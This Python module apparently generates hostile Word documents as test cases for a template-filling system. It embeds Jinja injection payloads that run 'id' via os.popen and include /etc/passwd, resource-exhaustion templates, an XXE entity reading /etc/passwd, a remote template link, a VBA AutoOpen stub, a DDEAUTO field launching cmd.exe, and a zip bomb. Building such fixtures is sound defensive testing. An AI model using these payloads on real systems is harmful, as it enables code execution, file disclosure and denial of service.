"""Word documents as templates with code in them, as an agent may get them from anywhere."""

from __future__ import annotations

import io
from collections.abc import Iterator
from functools import partial

import docx
from hostile_designed import OFFICE, Recipe, packed, unpacked

DOCUMENT, RELATIONS, SETTINGS = "word/document.xml", "word/_rels/document.xml.rels", "word/settings.xml"
_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'

_CODE = {
    "a class": "{{ client.__class__.__mro__[1].__subclasses__() }}",
    "the system": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "a file": "{% include '/etc/passwd' %}",
    "another template": "{% extends '../../offer.docx' %}",
    "an import": "{% from 'os' import system %}",
    "a power": "{{ 9**9**9 }}",
    "a long text": "{{ 'x' * 10**10 }}",
    "a wide text": "{{ client|center(9999999999) }}",
    "a format": "{{ '%09999999999d' % 1 }}",
    "a filler": "{{ lipsum(n=9999999) }}",
    "a long loop": "{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}",
    "a deep loop": "{% for c in client %}" * 12 + "x" + "{% endfor %}" * 12,
    "a loop in itself": "{% for a in rows recursive %}{{ loop(rows) }}{% endfor %}",
    "a macro in itself": "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "a thousand brackets": "{{ " + "(" * 5_000 + "client" + ")" * 5_000 + " }}",
    "a thousand ifs": "{% if client %}" * 3_000 + "{% endif %}" * 3_000,
    "a field unknown": "{{ password }}",
    "a tag that does not end": "{{ client ",
}


def letter(*texts: str) -> bytes:
    """A document, which is a zip of the same make as a workbook."""
    document, out = docx.Document(), io.BytesIO()
    for text in texts or ("Имя клиента: Иванов", "{{ client }}"):
        document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def templates() -> Iterator[Recipe]:
    """Code in tags, and what else a document can carry."""
    for what, text in _CODE.items():
        yield Recipe(f"template: {what}", "docx", partial(letter, text))
    yield Recipe("template: an entity of a file", "docx", _with_entity)
    yield Recipe("template: a template of its own", "docx", _with_remote_template)
    yield Recipe("template: macros", "docx", lambda: packed(unpacked(letter()) | {"word/vbaProject.bin": b"AutoOpen"}))
    yield Recipe("template: DDE in a field", "docx", _with_dde)
    yield Recipe("template: a bomb", "docx", lambda: packed(unpacked(letter()) | {DOCUMENT: bytes(300_000_000)}))
    yield Recipe("template: deep elements", "docx", lambda: packed(unpacked(letter()) | {DOCUMENT: b"<a>" * 100_000}))


def _with_entity() -> bytes:
    parts = unpacked(letter("Клиент &f;"))
    body = parts[DOCUMENT].partition(b"?>")[2].replace(b"&amp;f;", b"&f;")
    return packed(parts | {DOCUMENT: _ENTITY + body})


def _with_remote_template() -> bytes:
    parts = unpacked(letter())
    relation = f'<Relationship Id="rIdX" Type="{OFFICE}/attachedTemplate" Target="http://example.org/a.dotm" '
    link = f'{relation}TargetMode="External"/></Relationships>'.encode()
    return packed(parts | {RELATIONS: parts[RELATIONS].replace(b"</Relationships>", link)})


def _with_dde() -> bytes:
    parts = unpacked(letter("поле"))
    field = b'<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
    return packed(parts | {DOCUMENT: parts[DOCUMENT].replace(b"</w:p>", field)})
